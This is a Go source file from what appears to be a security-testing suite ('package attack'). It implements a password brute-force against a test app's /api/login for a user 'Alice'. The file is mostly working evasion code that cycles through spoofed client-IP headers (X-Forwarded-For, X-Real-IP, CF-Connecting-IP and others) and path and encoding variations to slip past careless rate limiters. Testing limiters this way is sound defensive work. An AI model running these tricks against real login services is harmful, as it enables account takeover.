// Copyright The Panoply Authors.
// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"context"
	_ "embed"
	"fmt"
	"net/http"
	"net/url"
	"strings"
)

// passwords are the first guesses of anyone, one per line.
//
//go:embed passwords.txt
var passwords string

// bruteForce guesses Alice's password. When it is stopped it pretends to be
// someone else or spells the request differently, until nothing helps.
func bruteForce(ctx context.Context, c *client, r *Result) error {
	c.hop() // The other attacks may have used up this address's attempts.
	_, err := c.join(ctx)
	r.Worked = err == nil

	guesses := strings.Fields(passwords)
	trick, answered := 0, 0
	for n, guess := range guesses {
		a := c.guess(ctx, n, guess, &trick)
		if trick == len(tricks) {
			r.note("stopped after %d answered guesses, whatever the spelling: status %d", answered, a.status)
			return err
		}
		answered++
		if c.owns(ctx, tokenOf(a), aliceEmail) {
			r.prove("logged in as %s with guess %d of %d (%s)", aliceEmail, n+1, len(guesses), tricks[trick].name)
			return err
		}
	}
	r.note("%d guesses were answered and none was right (%s)", answered, tricks[trick].name)
	return err
}

// guess tries one password, with the next trick whenever the present one does
// not reach the login any more. It moves trick on; past the last one, all are
// used up.
func (c *client) guess(ctx context.Context, n int, password string, trick *int) (a answer) {
	for ; *trick < len(tricks); *trick++ {
		q := postJSON("/api/login", credentials(aliceEmail, password))
		tricks[*trick].change(&q, n, password)
		a = c.once(ctx, q) // No hop: one attacker has one address.
		if a.status == http.StatusOK || a.status == http.StatusUnauthorized {
			return a
		}
	}
	return a
}

// tricks change a login so that a careless limiter takes attempt n for that of
// another client, or for another route.
var tricks = []struct {
	name   string
	change func(q *request, n int, password string)
}{
	{"plain requests", func(*request, int, string) {}},
	{"another X-Forwarded-For each time", claim("X-Forwarded-For", "%s")},
	{"another X-Forwarded-For in front of a proxy's each time", claim("X-Forwarded-For", "%s, 10.0.0.1")},
	{"another X-Real-IP each time", claim("X-Real-Ip", "%s")},
	{"another Forwarded each time", claim("Forwarded", "for=%s")},
	{"another CF-Connecting-IP each time", claim("Cf-Connecting-Ip", "%s")},
	{"another True-Client-IP each time", claim("True-Client-Ip", "%s")},
	{"a form instead of JSON", func(q *request, _ int, password string) {
		q.contentType = "application/x-www-form-urlencoded"
		q.body = []byte(url.Values{"email": {aliceEmail}, "password": {password}}.Encode())
	}},
	{"another query string each time", func(q *request, n int, _ string) {
		q.target += fmt.Sprintf("?n=%d", n)
	}},
	{"other letter case in the path each time", func(q *request, n int, _ string) {
		q.target = otherCase(q.target, n+1)
	}},
	{"a trailing slash", func(q *request, _ int, _ string) { q.target += "/" }},
	{"other slashes in the path each time", func(q *request, n int, _ string) {
		slashes := func(n int) string { return strings.Repeat("/", 1+n%4) }
		q.target = slashes(n+1) + "api" + slashes(n/4) + "login" + slashes(n/16)
	}},
	{"another escaped letter in the path each time", func(q *request, n int, _ string) {
		i := len("/api/") + n%len("login")
		q.target = fmt.Sprintf("%s%%%02x%s", q.target[:i], q.target[i], q.target[i+1:])
	}},
	{"another cookie and another language each time", func(q *request, n int, _ string) {
		q.header = http.Header{"Cookie": {fmt.Sprintf("connect.sid=%d", n)}, "Accept-Language": {fmt.Sprintf("x-%d", n)}}
	}},
}

// claim returns a trick that sets an address header to a new address each time.
func claim(name, format string) func(*request, int, string) {
	return func(q *request, n int, _ string) {
		q.header = http.Header{name: {fmt.Sprintf(format, fmt.Sprintf("198.51.100.%d", n+1))}}
	}
}

// otherCase writes those letters of a path in upper case whose bit is set in n.
func otherCase(path string, n int) string {
	b := []byte(path)
	for i := range b {
		if b[i] >= 'a' && b[i] <= 'z' {
			if n&1 == 1 {
				b[i] -= 'a' - 'A'
			}
			n >>= 1
		}
	}
	return string(b)
}
